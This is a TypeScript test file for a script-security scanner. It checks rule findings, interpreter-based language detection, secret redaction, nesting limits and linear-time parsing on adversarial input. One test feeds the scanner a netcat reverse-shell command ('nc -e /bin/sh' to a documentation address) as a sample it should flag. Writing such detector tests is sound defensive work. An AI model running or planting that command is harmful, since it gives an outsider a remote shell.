import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { processorTime } from '../../model/processor-time.test-support.ts';
import { bad } from './bad.table.ts';
import { good } from './good.table.ts';
import { inspectScript, languageOf, scriptRules } from './index.ts';

test.each(bad)('%s (%s) is %s', (_name, language, rule, text) => {
  expect(inspectScript({ path: 'x', text, language }).map((found) => found.rule)).toContain(rule);
});

test.each(good)('%s (%s) is nothing', (_name, language, text) => {
  expect(inspectScript({ path: 'x', text, language })).toEqual([]);
});

test.each([
  ['a.sh', undefined, 'shell'],
  ['a', '/usr/bin/env bash', 'shell'],
  ['a', '#!/usr/bin/env -S node --no-warnings', 'javascript'],
  ['a.txt', '/usr/bin/python3.12', 'python'],
  ['x.mts', undefined, 'javascript'],
  ['x.rb', undefined, 'ruby'],
  ['x.php', 'php8.3', 'php'],
  ['README.md', undefined, undefined],
  ['script', '-bash', undefined],
  ['a.pl', '#! /usr/bin/perl -w', 'perl'],
] as const)('%s with %s is %s', (path, interpreter, want) => {
  expect(languageOf(path, interpreter)).toBe(want);
});

test('a finding has its place, and no secret', () => {
  const text = 'set -e\n  TOKEN=abcdef\n';
  const [found] = inspectScript({
    path: 'deploy.sh',
    text,
    language: 'shell',
    secrets: () => [{ rule: 'some-token', start: 15, end: 21 }],
  });
  expect(found).toEqual({
    rule: 'SC-01',
    cwe: 'CWE-798',
    severity: 'high',
    confidence: 'high',
    message: 'A secret stands in the script in the clear. (some-token)',
    place: { path: 'deploy.sh', line: 2, column: 9 },
    excerpt: 'TOKEN=[some-token]',
  });
});

test('a line is named, and one finding stands for it', () => {
  const found = inspectScript({
    path: 'x',
    language: 'shell',
    text: '#!/bin/sh\n\nnc -e /bin/sh 192.0.2.1 1; nc -e /bin/sh 192.0.2.1 2\n',
  });
  expect(found.map((each) => [each.rule, each.place.line, each.place.column])).toEqual([['SC-02', 3, 1]]);
});

test('what nests too deeply is reported, not passed over', () => {
  expect(inspectScript({ path: 'x', language: 'shell', text: '$('.repeat(500) }).map((found) => found.rule)).toEqual(['SC-00']);
});

const SIZE = 128 * 1024;
const storms: readonly (readonly [string, string])[] = [
  ['quotes', "'"],
  ['double quotes', '"'],
  ['escaped quotes', "\\'"],
  ['substitutions', '$('],
  ['closed substitutions', '$()'],
  ['backquotes', '`'],
  ['brackets', '('],
  ['braces', '{ '],
  ['tests', '[[ '],
  ['arithmetic', '(('],
  ['arithmetic substitutions', '$(('],
  ['assignments', 'a=b '],
  ['chained assignments', 'a='],
  ['here-documents', '<<A '],
  ['heredoc lines', '<<A\n'],
  ['pipes', 'a|'],
  ['calls', 'exec('],
  ['calls closed', 'eval(a);'],
  ['slashes', '=/'],
  ['regex classes', '=/['],
  ['comments', '/*'],
  ['triple quotes', '"""'],
  ['perl quotes', 'q('],
  ['dots', 'a.'],
  ['imports', 'import a as b,'],
  ['destructuring', 'const {'],
  ['arrows', 'x=>'],
  ['loops', 'for a in '],
  ['processes', 'system("a");'],
  ['redirects', '>&'],
  ['processes in shell', "sh -c 'a';"],
  ['evals', 'eval a;'],
  ['open strings', '"a\n'],
  ['commas', 'a,'],
  ['pods', '\n=a'],
  ['fetches', 'curl a|'],
  ['downloads', 'curl -o a b;'],
  ['template', '`${a}'],
  ['with as', 'open("a") as b\n'],
];
const languages = ['shell', 'python', 'javascript', 'perl', 'ruby', 'php', 'powershell'] as const;
test.each(storms)(
  '128 KiB of %s are read in linear time',
  (_name, unit) => {
    for (const language of languages) {
      const text = (language === 'php' ? '<?php ' : '') + unit.repeat(Math.ceil(SIZE / unit.length));
      const before = processorTime();
      inspectScript({ path: 'x', text, language });
      expect(processorTime() - before, language).toBeLessThan(3000);
    }
  },
  120_000,
);

test.each(scriptRules.map((rule) => [rule.id, rule] as const))('%s has a page that names its weakness', (id, rule) => {
  const page = readFileSync(new URL(`../../../docs/rules/${id}.md`, import.meta.url), 'utf8');
  expect(page).toContain(`# ${id}: `);
  expect(page).toContain(rule.cwe);
});
